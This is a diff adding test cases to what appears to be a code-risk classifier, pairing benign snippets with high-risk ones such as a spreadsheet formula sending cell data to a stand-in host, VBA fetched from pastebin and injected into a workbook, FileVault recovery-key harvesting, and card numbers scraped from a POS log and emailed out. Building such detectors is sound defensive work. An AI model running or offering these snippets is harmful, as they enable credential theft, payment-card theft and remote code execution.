@@ -11019,6 +11019,101 @@ def test_stdin_scripts_loaders_and_handlers(code: str, expected: RiskLevel) -> N
             '    return opener.open(request.args["url"]).read()\n',
             H,
         ),
+        # holdout332-335: endpoint management, entertainment centres, office automation, home inspectors
+        (
+            'import winreg\n'
+            'k = winreg.CreateKey(winreg.HKEY_CURRENT_USER, r"Software\\Microsoft\\Office\\16.0\\'
+            'Excel\\Security")\n'
+            'winreg.SetValueEx(k, "VBAWarnings", 0, winreg.REG_DWORD, 1)\n',
+            H,
+        ),
+        (
+            'import winreg\n'
+            'k = winreg.OpenKey(winreg.HKEY_CURRENT_USER, r"Software\\Microsoft\\Office\\16.0\\Ex'
+            'cel\\Security")\n'
+            'print(winreg.QueryValueEx(k, "VBAWarnings"))\n',
+            S,
+        ),
+        (
+            'import csv\n'
+            'w = csv.writer(open("out.csv", "w"))\n'
+            'for i in range(2, 10):\n'
+            '    w.writerow(["x", f\'=WEBSERVICE("https://collect.example.io/p?d="&ENCODEURL(A'
+            "{i}))'])\n",
+            H,
+        ),
+        (
+            'import csv\n'
+            'w = csv.writer(open("out.csv", "w"))\n'
+            'for i in range(2, 10):\n'
+            '    w.writerow(["x", f"=SUM(B{i}:D{i})"])\n',
+            S,
+        ),
+        (
+            'import requests, win32com.client\n'
+            'code = requests.get("https://pastebin.com/raw/x").text\n'
+            'xl = win32com.client.Dispatch("Excel.Application")\n'
+            'wb = xl.Workbooks.Open("r.xlsx")\n'
+            'wb.VBProject.VBComponents.Add(1).CodeModule.AddFromString(code)\n',
+            H,
+        ),
+        (
+            'import subprocess\n'
+            'subprocess.Popen(["soffice", "--headless", "--accept=socket,host=0.0.0.0,port=20'
+            '02;urp;"])\n',
+            H,
+        ),
+        (
+            'import subprocess\n'
+            'subprocess.run(["soffice", "--headless", "--convert-to", "pdf", "--outdir", "out'
+            '", "report.docx"])\n',
+            L,
+        ),
+        (
+            'import requests, os\n'
+            'JSS = os.environ["JSS"]\n'
+            'xml = "<policy><scope><all_computers>true</all_computers></scope><scripts><scrip'
+            't><id>7</id></script></scripts></policy>"\n'
+            'requests.post(f"{JSS}/JSSResource/policies/id/0", data=xml)\n',
+            H,
+        ),
+        (
+            'import requests, os\n'
+            'JSS = os.environ["JSS"]\n'
+            'r = requests.get(f"{JSS}/JSSResource/computers", headers={"Accept": "application'
+            '/json"})\n'
+            'print(len(r.json()["computers"]))\n',
+            L,
+        ),
+        (
+            'import requests\n'
+            's = requests.Session()\n'
+            'keys = {}\n'
+            'for c in s.get("https://x.jamfcloud.com/api/v1/computers-inventory").json()["res'
+            'ults"]:\n'
+            '    keys[c["id"]] = s.get(f"https://x.jamfcloud.com/api/v1/computers-inventory/{'
+            'c[\'id\']}/filevault").json()["personalRecoveryKey"]\n',
+            H,
+        ),
+        (
+            'from crontab import CronTab\n'
+            'cron = CronTab(user="root")\n'
+            'cron.new(command="/usr/local/bin/ansible-pull -U https://github.com/someone/lapt'
+            'op.git local.yml")\n'
+            'cron.write()\n',
+            H,
+        ),
+        (
+            'import re, smtplib\n'
+            'from email.message import EmailMessage\n'
+            'pan = re.compile(r"\\b(?:\\d[ -]?){13,16}\\b")\n'
+            'cards = pan.findall(open("/var/log/pos/debug.log").read())\n'
+            'msg = EmailMessage()\n'
+            'msg["To"] = "someone.123@gmail.com"\n'
+            'msg.set_content("\\n".join(cards))\n'
+            'smtplib.SMTP_SSL("smtp.gmail.com").send_message(msg)\n',
+            H,
+        ),
     ],
 )
 def test_generalised_rules(code: str, expected: RiskLevel) -> None:
